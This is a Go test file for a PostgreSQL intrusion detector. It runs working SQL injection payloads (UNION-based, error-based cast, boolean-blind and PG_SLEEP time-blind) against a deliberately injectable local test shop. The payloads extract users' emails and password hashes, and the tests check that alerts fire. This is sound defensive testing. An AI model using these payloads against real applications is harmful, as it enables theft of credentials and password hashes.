package detector_test

import (
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/pgtripwire/pgtripwire/detector/catalog"
	"github.com/pgtripwire/pgtripwire/detector/classify"
	"github.com/pgtripwire/pgtripwire/detector/config"
	"github.com/pgtripwire/pgtripwire/detector/source"
	"github.com/pgtripwire/pgtripwire/detector/source/catalogwatch"
	logsource "github.com/pgtripwire/pgtripwire/detector/source/log"
	"github.com/pgtripwire/pgtripwire/internal/pgserver"
	"github.com/pgtripwire/pgtripwire/internal/testkit/detectortest"
	"github.com/pgtripwire/pgtripwire/internal/testkit/pgtest"
	"github.com/pgtripwire/pgtripwire/internal/testkit/webapp"
	"github.com/pgtripwire/pgtripwire/internal/testkit/workload"
	"github.com/pgtripwire/pgtripwire/model"
	"github.com/pgtripwire/pgtripwire/rules"
)

// learnFor replaces the default pack's 10-minute learning periods in the injection
// tests: the profile of webapp is what it runs in its first seconds here.
const learnFor = 12 * time.Second

// shortLearning points cfg at a copy of the default pack whose learning periods of 10
// minutes last learnFor instead — the way an operator owns a retuned copy of the pack
// (rules.default_pack: false, the copy in rules.files). It fails the test when the pack
// no longer has such a period, so that the tests cannot drift from the pack silently.
func shortLearning(t *testing.T, cfg *config.Config) {
	t.Helper()
	pack := string(rules.DefaultPack())
	const long = "learn_for: 10m"
	if n := strings.Count(pack, long); n < 3 {
		t.Fatalf("the default pack has %d %q: the statement profile rules changed, update shortLearning", n, long)
	}
	path := filepath.Join(t.TempDir(), "pack.yml")
	if err := os.WriteFile(path, []byte(strings.ReplaceAll(pack, long, "learn_for: "+learnFor.String())), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg.Rules.DefaultPack = false
	cfg.Rules.Files = []string{path}
}

// shop is the injectable application over a database of its own, watched by a detector
// whose webapp role is an application role, with the application's users browsing it.
type shop struct {
	db  *pgtest.Database
	app *webapp.App
	cfg *config.Config
	d   *detectortest.Detector
	// stopBrowsing stops the benign traffic and returns how many requests it made.
	stopBrowsing func() int
	catalog      *catalog.Snapshot // loaded by classifierNames
}

// startShop starts the shop over a new database of srv (nil: the package's shared
// cluster) with users users, a detector on every source but the catalog watch at 500 ms (the log source on
// logDir when it is not ""), browsing at perSecond, and returns once webapp's learning
// period is over.
func startShop(t *testing.T, srv *pgserver.Server, logDir string, users, perSecond int) *shop {
	t.Helper()
	var db *pgtest.Database
	if srv == nil {
		db = pgtest.NewDatabase(t)
	} else {
		db = pgtest.NewDatabaseIn(t, srv)
	}
	workload.Users(t, db, users)
	app := webapp.Start(t, db)
	cfg := detectortest.Config(t, db)
	cfg.Roles.Application = []string{webapp.Role}
	detectortest.EverySource(t, cfg, 500*time.Millisecond)
	// The catalog watch sees the whole cluster's roles, which the package's other tests
	// change all the time (as detectortest.Config says): off, as there.
	detectortest.PollSettings(t, cfg, catalogwatch.Name).Enabled = false
	if logDir != "" {
		ls, ok := source.Lookup[*logsource.Settings](cfg.Sources, logsource.Name)
		if !ok {
			t.Fatal("no log source in the configuration")
		}
		ls.Enabled, ls.Directory = true, logDir
	}
	shortLearning(t, cfg)
	d := detectortest.Start(t, cfg)
	s := &shop{db: db, app: app, cfg: cfg, d: d, stopBrowsing: app.Browse(t, users, perSecond)}
	// The profile is what webapp runs in its first learnFor (from its first statement
	// on sensitive data, which browsing makes at once): wall-clock time of the detector,
	// with nothing to poll for but the time itself.
	time.Sleep(learnFor + 3*time.Second)
	// Whatever pages after this is the attack's doing: the browsing raised nothing.
	for _, a := range d.Lines(t) {
		t.Fatalf("the application's traffic raised %s before any attack: %v", a.Rule, a.Labels)
	}
	return s
}

// classifierNames reports whether the classifier the detector runs names an injection
// shape in sql (run by webapp in s's database): then the critical InjectionShapedRead
// must page too, besides what the statement profile and the log see.
func (s *shop) classifierNames(t *testing.T, sql string) bool {
	t.Helper()
	if s.catalog == nil {
		snap, err := catalog.Load(t.Context(), s.db.Conn(t, "postgres"), map[string][]string{"public.users": {"email", "username", "password_hash"}})
		if err != nil {
			t.Fatal(err)
		}
		s.catalog = snap
	}
	res := classify.Classify(sql, s.catalog, []string{"$user", "public"}, webapp.Role)
	return slices.ContainsFunc(res.Shapes, classify.InjectionShape)
}

// product requests the injectable page with payload as its id, failing the test when
// the request does not get an answer.
func (s *shop) product(t *testing.T, payload string) (int, string) {
	t.Helper()
	code, body, err := s.app.Product(t.Context(), payload)
	if err != nil {
		t.Fatalf("GET /product?id=%s: %v", payload, err)
	}
	return code, body
}

// truth returns the first n users' "email:password_hash", by id: what the attacks must
// have extracted for the test to be about a real extraction.
func (s *shop) truth(t *testing.T, n int) []string {
	t.Helper()
	rows, err := s.db.Conn(t, "postgres").Query(t.Context(), `SELECT email || ':' || password_hash FROM users ORDER BY id LIMIT $1`, n)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for rows.Next() {
		var v string
		if err := rows.Scan(&v); err != nil {
			t.Fatal(err)
		}
		out = append(out, v)
	}
	if err := rows.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

// wantPage waits for a firing alert of rule naming webapp, within 30 s of start.
func (s *shop) wantPage(t *testing.T, start time.Time, rule string, labels map[string]string) model.Alert {
	t.Helper()
	want := map[string]string{model.LabelRole: webapp.Role}
	for k, v := range labels {
		want[k] = v
	}
	a := s.d.WaitAlert(t, 30*time.Second-time.Since(start), rule, want)
	if a.Time.Before(start) {
		t.Fatalf("%s fired at %s, before the attack began at %s", rule, a.Time, start)
	}
	t.Logf("%s (%s) paged %s after the attack began: %v, value %v", rule, a.Severity,
		time.Since(start).Round(10*time.Millisecond), a.Labels, a.Value)
	return a
}

// #16 acceptance 1: SQL injection through the application's product page, by the
// techniques extraction tools use, each against its own shop and detector (the alerts
// of one technique must not stand in for another's). Each pages within 30 s, naming
// webapp: the statement profile warns on the statements webapp never ran; the server log
// pages on error-based extraction; and where the classifier names the statement's
// injection shape, InjectionShapedRead pages as critical. No canary rows are planted.
// The application's users browse all along.
func TestSQLInjectionThroughTheApplication(t *testing.T) {
	t.Parallel()
	const users = 2000

	t.Run("union-based, a row per request, padded three ways", func(t *testing.T) {
		t.Parallel()
		s := startShop(t, nil, "", users, 10)
		start := time.Now()
		// The number of columns, as tools find it: ORDER BY n until the page fails.
		cols := 0
		for n := 1; n <= 8; n++ {
			if code, _ := s.product(t, fmt.Sprintf("1 ORDER BY %d", n)); code != http.StatusOK {
				break
			}
			cols = n
		}
		if cols != 3 {
			t.Fatalf("ORDER BY probing found %d columns, want 3", cols)
		}
		paddings := [][2]string{{"NULL", "NULL"}, {"1", "0"}, {"NULL::int", "NULL::numeric"}}
		const rows = 20
		var got []string
		var sample string
		for k := range rows {
			p := paddings[k%len(paddings)]
			payload := fmt.Sprintf("-1 UNION ALL SELECT %s,(SELECT email||CHR(58)||password_hash FROM users ORDER BY id LIMIT 1 OFFSET %d),%s", p[0], k, p[1])
			if k == 0 {
				sample = "SELECT id, name, price FROM products WHERE id = " + payload
			}
			code, body := s.product(t, payload)
			fields := strings.Split(strings.TrimSuffix(body, "\n"), "\t")
			if code != http.StatusOK || len(fields) != 3 {
				t.Fatalf("payload %s: status %d, %q", payload, code, body)
			}
			got = append(got, fields[1])
		}
		if want := s.truth(t, rows); !slices.Equal(got, want) {
			t.Fatalf("the extraction got %q, want %q: the attack did not work", got, want)
		}
		s.wantPage(t, start, "NewStatementOnSensitiveData", nil)
		if s.classifierNames(t, sample) {
			s.wantPage(t, start, "InjectionShapedRead", nil)
		} else {
			t.Logf("the classifier names no injection shape in %q yet: InjectionShapedRead not expected", sample)
		}
	})

	t.Run("error-based, values quoted by cast errors in the server log", func(t *testing.T) {
		t.Parallel()
		srv, logDir := pgtest.NewLoggingServer(t, "jsonlog", nil)
		s := startShop(t, srv, logDir, users, 10)
		start := time.Now()
		quoted := regexp.MustCompile(`invalid input syntax for type (?:integer|numeric): "([^"]*)"`)
		const values = 8
		var got []string
		var sample string
		for k := range values {
			// Two casts, as tools alternate them: CAST(… AS int) of the email, ::numeric of the hash.
			email := fmt.Sprintf("1 AND 1=CAST((SELECT email FROM users ORDER BY id LIMIT 1 OFFSET %d) AS int)", k)
			hash := fmt.Sprintf("1 AND (SELECT password_hash FROM users ORDER BY id LIMIT 1 OFFSET %d)::numeric>0", k)
			if k == 0 {
				sample = "SELECT id, name, price FROM products WHERE id = " + email
			}
			var pair []string
			for _, payload := range []string{email, hash} {
				code, body := s.product(t, payload)
				m := quoted.FindStringSubmatch(body)
				if code != http.StatusInternalServerError || m == nil {
					t.Fatalf("payload %s: status %d, %q: want the error quoting the value", payload, code, body)
				}
				pair = append(pair, m[1])
			}
			got = append(got, strings.Join(pair, ":"))
		}
		if want := s.truth(t, values); !slices.Equal(got, want) {
			t.Fatalf("the extraction got %q, want %q: the attack did not work", got, want)
		}
		s.wantPage(t, start, "ErrorBasedExtraction", map[string]string{model.LabelSource: "log"})
		if s.classifierNames(t, sample) {
			s.wantPage(t, start, "InjectionShapedRead", map[string]string{model.LabelSource: "log"})
		} else {
			t.Logf("the classifier names no injection shape in %q yet: InjectionShapedRead not expected", sample)
		}
	})

	t.Run("boolean-blind, one email a character at a time, two functions", func(t *testing.T) {
		t.Parallel()
		s := startShop(t, nil, "", users, 10)
		start := time.Now()
		forms := []string{
			"1 AND ASCII(SUBSTRING((SELECT email FROM users ORDER BY id LIMIT 1),%d,1))>%d",
			"1 AND ASCII(SUBSTR((SELECT email FROM users ORDER BY id OFFSET 0 LIMIT 1),%d,1))>%d",
		}
		isTrue := func(payload string) bool {
			code, body := s.product(t, payload)
			if code != http.StatusOK {
				t.Fatalf("payload %s: status %d, %q", payload, code, body)
			}
			return strings.HasPrefix(body, "1\tproduct 1\t")
		}
		if !isTrue("1 AND 1=1") || isTrue("1 AND 1=2") {
			t.Fatal("the page does not tell true from false")
		}
		var email []byte
		for i := 1; i <= 64; i++ {
			form := forms[i%len(forms)]
			lo, hi := 0, 127 // the character is in (lo, hi]
			for lo < hi {
				mid := (lo + hi) / 2
				if isTrue(fmt.Sprintf(form, i, mid)) {
					lo = mid + 1
				} else {
					hi = mid
				}
			}
			if lo == 0 {
				break // past the end: ASCII('') is 0
			}
			email = append(email, byte(lo))
		}
		if want := strings.SplitN(s.truth(t, 1)[0], ":", 2)[0]; string(email) != want {
			t.Fatalf("the extraction got %q, want %q: the attack did not work", email, want)
		}
		s.wantPage(t, start, "NewStatementOnSensitiveData", nil)
		if sample := "SELECT id, name, price FROM products WHERE id = " + fmt.Sprintf(forms[0], 1, 64); s.classifierNames(t, sample) {
			s.wantPage(t, start, "InjectionShapedRead", nil)
		} else {
			t.Logf("the classifier names no injection shape in %q yet: InjectionShapedRead not expected", sample)
		}
	})

	t.Run("time-blind, a sleep in the predicate", func(t *testing.T) {
		t.Parallel()
		s := startShop(t, nil, "", users, 10)
		start := time.Now()
		const sleep = 400 * time.Millisecond
		slow := func(payload string) bool {
			t0 := time.Now()
			if code, body := s.product(t, payload); code != http.StatusOK {
				t.Fatalf("payload %s: status %d, %q", payload, code, body)
			}
			return time.Since(t0) >= sleep*9/10
		}
		// The probe, then three characters of the first hash by bisection.
		if !slow(fmt.Sprintf("1 AND 7=(SELECT 7 FROM PG_SLEEP(%g))", sleep.Seconds())) {
			t.Fatal("the page did not sleep")
		}
		form := "1 AND 7=(CASE WHEN (ASCII(SUBSTRING((SELECT password_hash FROM users ORDER BY id LIMIT 1),%d,1))>%d) THEN (SELECT 7 FROM PG_SLEEP(" +
			strconv.FormatFloat(sleep.Seconds(), 'f', -1, 64) + ")) ELSE 7 END)"
		var prefix []byte
		for i := 1; i <= 3; i++ {
			lo, hi := 0, 127
			for lo < hi {
				mid := (lo + hi) / 2
				if slow(fmt.Sprintf(form, i, mid)) {
					lo = mid + 1
				} else {
					hi = mid
				}
			}
			prefix = append(prefix, byte(lo))
		}
		if string(prefix) != "$2b" {
			t.Fatalf("the extraction got %q, want %q: the attack did not work", prefix, "$2b")
		}
		s.wantPage(t, start, "NewStatementOnSensitiveData", nil)
		if sample := "SELECT id, name, price FROM products WHERE id = " + fmt.Sprintf(form, 1, 64); s.classifierNames(t, sample) {
			s.wantPage(t, start, "InjectionShapedRead", nil)
		} else {
			t.Logf("the classifier names no injection shape in %q yet: InjectionShapedRead not expected", sample)
		}
	})
}

// #16 acceptance 1, the other half: the same application's normal pages — product
// pages, the catalogue 20 to a page, searches, logins (some with a wrong password),
// signups, profiles — thousands of requests after webapp's profile was learned, raise
// nothing at all, the server log's rules included.
func TestApplicationTrafficRaisesNothing(t *testing.T) {
	t.Parallel()
	srv, logDir := pgtest.NewLoggingServer(t, "jsonlog", nil)
	s := startShop(t, srv, logDir, 2000, 80)
	time.Sleep(30 * time.Second) // the traffic after learning: nothing to poll for but its absence
	n := s.stopBrowsing()
	if n < 2500 {
		t.Errorf("the benign traffic made %d requests, want thousands", n)
	}
	// The sources did see the traffic: the statements polled, and the log's errors of
	// broken links made events that no rule pages on.
	if got := s.d.Counter(t, "pgtripwire_source_polls_total", map[string]string{"source": "statements"}); got == 0 {
		t.Error("the statements source never polled: the test saw nothing")
	}
	if got := s.d.Counter(t, "pgtripwire_log_events_total", map[string]string{"kind": logsource.KindSyntaxError}); got == 0 {
		t.Error("the log source made no syntax_error event of the broken links: the test saw nothing of the log")
	}
	for _, a := range s.d.Lines(t) {
		t.Errorf("the application's traffic raised %s (%s): %v", a.Rule, a.Severity, a.Labels)
	}
	t.Logf("%d requests, no alert", n)
}

// The statement profile is part of the rule state: after a restart of the detector,
// webapp's known statements stay known (its browsing raises nothing) and it does not
// learn again — the first injected statement after the restart pages at once, where a
// profile lost would have been learned silently in a new learning period.
func TestStatementProfileSurvivesRestart(t *testing.T) {
	t.Parallel()
	s := startShop(t, nil, "", 500, 10)
	s.d.Stop()
	restarted := time.Now()
	d := detectortest.Start(t, s.cfg)
	time.Sleep(3 * time.Second) // browsing after the restart: nothing to poll for but silence
	for _, a := range d.Lines(t) {
		t.Fatalf("after the restart the application's traffic raised %s: %v", a.Rule, a.Labels)
	}
	start := time.Now()
	code, body := s.product(t, "-1 UNION ALL SELECT NULL,(SELECT email FROM users ORDER BY id LIMIT 1),NULL")
	fields := strings.Split(strings.TrimSuffix(body, "\n"), "\t")
	if want := strings.SplitN(s.truth(t, 1)[0], ":", 2)[0]; code != http.StatusOK || len(fields) != 3 || fields[1] != want {
		t.Fatalf("the extraction got status %d, %q, want the email %q", code, body, want)
	}
	a := d.WaitAlert(t, 30*time.Second, "NewStatementOnSensitiveData", map[string]string{model.LabelRole: webapp.Role})
	if at := a.Time.Sub(start); at < 0 || at > learnFor {
		t.Errorf("NewStatementOnSensitiveData fired %s after the injection, want within %s (no new learning period)", at, learnFor)
	}
	t.Logf("restarted %s before the injection; NewStatementOnSensitiveData fired %s after it", start.Sub(restarted).Round(10*time.Millisecond),
		a.Time.Sub(start).Round(10*time.Millisecond))
}
